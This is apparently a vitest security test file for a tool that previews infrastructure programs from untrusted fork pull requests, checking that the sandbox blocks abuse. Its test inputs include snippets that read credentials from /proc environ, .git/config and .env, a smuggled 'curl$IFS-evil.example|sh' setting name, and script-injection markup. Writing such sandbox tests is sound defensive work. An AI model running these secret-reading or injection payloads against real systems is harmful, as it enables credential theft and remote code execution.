/** Pull requests from forks whose program does what it should not. */
import { symlinkSync } from "node:fs";
import { createServer } from "node:net";
import path from "node:path";
import { micromark } from "micromark";
import { gfm, gfmHtml } from "micromark-extension-gfm";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { skipTest } from "../tests/skip.ts";
import { findSandbox } from "./sandbox/sandbox.ts";
import { Checkout, programOf } from "./testing/checkout.ts";

const TOKEN = "ghp_7Jq2fXkT0bW9vRz4LmN8sYc1DhUe5GaP3oBi";

let checkout: Checkout;
beforeEach(() => {
  checkout = new Checkout();
});
afterEach(() => checkout.remove());

/** A head that runs each of these attempts, and logs its outcome. */
function trying(attempts: Readonly<Record<string, string>>): string {
  const lines = Object.entries(attempts).map(
    ([name, attempt]) =>
      `try { tell("${name}", String(await (async () => { ${attempt} })())); } catch (error) { tell("${name}", "refused: " + (error.code ?? error.message)); }`,
  );
  return programOf(
    `const found = {};\nconst tell = (name, text) => { found[name] = text; };\n${lines.join("\n")}\nfor (const [name, text] of Object.entries(found)) pulumi.log.warn(name + " = " + text);`,
  );
}

async function outcomes(env: Readonly<Record<string, string>> = {}): Promise<string[]> {
  const review = await checkout.review([], env);
  expect(review.stacks[0]?.failure).toBeUndefined();
  return review.stacks[0]!.messages.map(({ text }) => text);
}

describe("an untrusted head", () => {
  it("finds no credential: not in its environment, not in another process, not in a file", async () => {
    checkout.write(".env", `TOKEN=${TOKEN}\n`);
    checkout.git("config", "http.https://github.com/.extraheader", `AUTHORIZATION: basic ${TOKEN}`);
    const { directory } = checkout;
    checkout.write(
      "index.ts",
      trying({
        environment: "return JSON.stringify(process.env)",
        parent: `return process.getBuiltinModule("fs").readFileSync("/proc/" + process.ppid + "/environ", "utf8")`,
        others: `const fs = process.getBuiltinModule("fs"); return fs.readdirSync("/proc").map((pid) => { try { return fs.readFileSync("/proc/" + pid + "/environ", "utf8"); } catch { return ""; } }).join("")`,
        itself: `return process.getBuiltinModule("fs").readFileSync("/proc/self/environ", "utf8")`,
        config: `return process.getBuiltinModule("fs").readFileSync("${directory}/.git/config", "utf8")`,
        ignored: `return process.getBuiltinModule("fs").readFileSync("${directory}/.env", "utf8")`,
        home: `return process.getBuiltinModule("fs").readdirSync("${process.env.HOME}").join()`,
        shell: `return process.getBuiltinModule("child_process").execSync("env").toString()`,
        thread: `new (process.getBuiltinModule("worker_threads").Worker)("process.env", { eval: true }); return "started"`,
        addon: `process.dlopen({ exports: {} }, "/lib/x86_64-linux-gnu/libc.so.6"); return "loaded"`,
        write: `process.getBuiltinModule("fs").writeFileSync("${directory}/left", "x"); return "written"`,
      }),
    );
    checkout.commit("a fork");
    const messages = await outcomes({ GITHUB_TOKEN: TOKEN, DIGITALOCEAN_TOKEN: TOKEN, PULUMI_ACCESS_TOKEN: TOKEN, NODE_OPTIONS: "" });
    expect(messages).toHaveLength(11);
    expect(messages.join("\n")).not.toContain(TOKEN);
    for (const name of ["parent", "others", "itself", "config", "ignored", "home", "shell", "thread", "write"]) {
      expect(messages.find((text) => text.startsWith(`${name} = `))).toMatch(/refused: ERR_ACCESS_DENIED/);
    }
    expect(messages.find((text) => text.startsWith("addon = "))).toMatch(/refused/);
    expect(messages.find((text) => text.startsWith("environment = "))).not.toMatch(/TOKEN|GITHUB|NODE_OPTIONS/);
  });

  it("has no network if the system supports the sandbox", async (context) => {
    if ((await findSandbox()) === undefined)
      skipTest(context, {
        reason: "unprivileged user namespaces are not allowed",
        enable: "sudo sysctl -w kernel.apparmor_restrict_unprivileged_userns=0",
      });
    let heard = 0;
    const server = createServer(() => heard++).listen(0, "127.0.0.1");
    await new Promise((resolve) => server.on("listening", resolve));
    const { port } = server.address() as { port: number };
    checkout.write(
      "index.ts",
      trying({
        post: `await fetch("http://127.0.0.1:${port}/"); return "sent"`,
        socket: `return new Promise((resolve, reject) => process.getBuiltinModule("net").connect(53, "1.1.1.1").on("connect", () => resolve("connected")).on("error", reject))`,
      }),
    );
    checkout.commit("a fork");
    const messages = await outcomes();
    server.close();
    expect(heard).toBe(0);
    expect(messages).toEqual(["post = refused: fetch failed", expect.stringMatching(/socket = refused: (ENETUNREACH|ERR_ACCESS_DENIED)/)]);
  });

  it("is killed at its time limit, even in a busy loop", async () => {
    checkout.write("index.ts", programOf("for (;;);"));
    checkout.commit("a fork");
    const review = await checkout.review(["--timeout", "5"]);
    expect(review.stacks[0]?.failure).toEqual({
      side: "head",
      message: "The program did not finish within 5 seconds. To raise the limit: --timeout <seconds>",
    });
  });

  it("cannot forge a plan or a review", async () => {
    const forged = [
      `{"schema":"slipway-review/1","risk":"none","stacks":[]}`,
      `[{"stack":"prod","plan":{"project":"harbour","stack":"prod","resources":[],"outputs":{},"placeholders":[],"messages":[],"risk":"none"}}]`,
      `[{"stack":"staging","failure":""}]`,
      "nonsense",
    ];
    for (const text of forged) {
      checkout.write("index.ts", programOf(`process.getBuiltinModule("fs").writeSync(3, ${JSON.stringify(text)});\nprocess.exit(0);`));
      checkout.commit("a fork");
      const { stacks } = await checkout.review();
      expect(stacks[0]?.failure?.message).toMatch(/^The program could not be recorded: its output (is not a plan|is not JSON|has no plan)/);
    }
  });

  it("cannot fill the memory of the preview", async () => {
    checkout.write(
      "index.ts",
      programOf(`const piece = "x".repeat(1 << 20);\nfor (;;) process.getBuiltinModule("fs").writeSync(3, piece);`),
    );
    checkout.commit("a fork");
    const { stacks } = await checkout.review();
    expect(stacks[0]?.failure?.message).toBe("The program sent more than 32 MiB.");
  });

  it("cannot slow the preview down with texts that almost match its patterns", async () => {
    const inputs = Object.fromEntries(
      ["output-", "placeholder-", "‹", "placeholder:", "${a."].map((start) => [start, start.repeat(400_000)]),
    );
    const resource = {
      urn: "urn:x",
      type: "a:b:C",
      name: "n",
      custom: true,
      read: false,
      inputs,
      dependencies: [],
      propertyDependencies: {},
      options: {},
    };
    const plan = { project: "harbour", stack: "prod", resources: [resource], outputs: inputs, placeholders: [], messages: [] };
    checkout.write("plan.json", JSON.stringify([{ stack: "prod", plan }]));
    checkout.write(
      "index.ts",
      programOf(
        `const fs = process.getBuiltinModule("fs");\nconst bytes = fs.readFileSync("plan.json");\nfor (let sent = 0; sent < bytes.length; ) sent += fs.writeSync(3, bytes, sent);\nprocess.exit(0);`,
      ),
    );
    checkout.commit("a fork");
    const { stacks } = await checkout.review();
    expect(stacks[0]?.failure).toBeUndefined();
    expect(stacks[0]?.resources.map(({ change, name }) => `${change} ${name}`)).toEqual(["create n", "delete orders"]);
  });

  it("cannot read through a symbolic link to a place outside of the repository", async () => {
    symlinkSync("/etc/passwd", path.join(checkout.directory, "notes.txt"));
    checkout.commit("a fork");
    const { code, said } = await checkout.preview(["--base", "HEAD~1"]);
    expect(code).toBe(2);
    expect(said).toContain("head: notes.txt is a symbolic link to a place outside of the repository");
  });

  it("names a setting in a command only as one quoted word, because a reader may type the command", async () => {
    checkout.write("index.ts", programOf(`pulumi.log.warn("missing: harbour:x;curl$IFS-evil.example|sh");`));
    checkout.commit("a fork");
    const { stacks } = await checkout.review();
    expect(stacks[0]).toMatchObject({
      risk: "danger",
      missing: [{ command: "pulumi config set --secret 'harbour:x;curl$IFS-evil.example|sh' --stack prod" }],
    });
  });

  it("appears in a comment as text, whatever its name", async () => {
    const name = "</details><script>alert(1)</script> @everyone [x](http://evil.example) `";
    checkout.write("index.ts", programOf(`new digitalocean.Tag(${JSON.stringify(name)}, { name: "x" });`));
    checkout.commit("a fork");
    const { out } = await checkout.preview(["--base", "HEAD~1", "--format", "md"]);
    expect(out).toContain("alert(1)");
    const rendered = micromark(out, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
    expect(rendered).toContain("&lt;script&gt;alert(1)&lt;/script&gt; @everyone");
    expect(rendered).not.toMatch(/<script|<a [^>]*evil/);
  });
});
